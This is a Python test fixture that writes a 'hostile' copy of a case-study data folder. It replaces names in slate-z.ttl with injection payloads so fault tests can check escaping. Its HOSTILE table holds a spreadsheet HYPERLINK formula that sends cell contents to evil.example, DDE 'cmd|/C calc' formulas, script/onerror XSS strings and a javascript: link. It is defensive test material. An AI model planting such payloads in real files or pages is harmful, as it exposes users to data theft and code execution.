"""A small hostile data folder: one real case study (SLATE-Z) whose names carry
spreadsheet formulas and HTML, as a malicious or careless contributor could write them.
Built once per session by the fixtures of the fault tests that import it."""

from __future__ import annotations

import shutil
from pathlib import Path

DATA = Path(__file__).resolve().parents[2] / "data"

#: ci:name in slate-z.ttl -> the hostile name that replaces it
HOSTILE = {
    "Los Angeles Trade Technical College": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "Community organizations (not named in the source)": "<script>alert('x')</script> Community",
    "Educational institutions (not named in the source)": "<img src=x onerror=alert(1)> Schools",
    "Private sector businesses (not named in the source)": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Government agencies (not named in the source)": "-2+3+cmd|' /C calc'!A0",
    "Elected leaders (not named in the source)": "+31 [click](javascript:alert(1)) | pipe",
    "Living-wage jobs": "\t=1+2 tabbed",
    "Economic activity": "\r=1+2 carriage",
}


def hostile_data(dest: Path) -> Path:
    """Write the hostile data folder under ``dest``; returns it."""
    dest.mkdir(parents=True, exist_ok=True)
    for name in ("common.ttl", "sources.ttl"):
        shutil.copy(DATA / name, dest / name)
    text = (DATA / "slate-z.ttl").read_text(encoding="utf-8")
    for old, new in HOSTILE.items():
        needle = f'ci:name "{old}"'
        assert needle in text, f"slate-z.ttl no longer names {old!r}: update tests/faults/hostile_data.py"
        esc = (new.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
               .replace("\r", "\\r"))
        text = text.replace(needle, f'ci:name "{esc}"')
    (dest / "slate-z.ttl").write_text(text, encoding="utf-8")
    return dest
